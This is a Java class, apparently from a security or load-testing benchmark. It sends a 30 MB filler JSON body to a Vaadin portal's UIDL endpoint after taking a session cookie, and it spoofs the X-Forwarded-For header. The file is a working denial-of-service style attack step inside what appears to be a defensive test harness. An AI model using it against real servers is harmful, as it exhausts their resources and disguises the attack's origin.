package fr.montpellier.multipass.bench.attack.hostile;

import fr.montpellier.multipass.bench.clients.Browser;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Sends thirty megabytes of JSON to Vaadin's own address, without a session. */
public record UidlBody(URI portal) implements AttackKind {

    private static final long SIZE = 30_000_000;

    @Override
    public String name() {
        return "30 MB to the address of UIDL";
    }

    @Override
    public int attack(String source) {
        try {
            HttpResponse<String> page = new Browser(source).get(URI.create(portal + "/?v-r=init&location=&query="));
            String cookie =
                    page.headers().firstValue("Set-Cookie").orElse("none=").replaceAll(";.*", "");
            return new RawRequest(
                            "POST",
                            URI.create(portal + "/?v-r=uidl&v-uiId=0"),
                            Map.of(
                                    "Cookie", cookie,
                                    "Content-Type", "application/json; charset=UTF-8",
                                    "X-Forwarded-For", source),
                            SIZE)
                    .sendFiller("{\"rpc\":[".getBytes(StandardCharsets.US_ASCII), '1');
        } catch (java.io.UncheckedIOException e) {
            return 0;
        }
    }
}
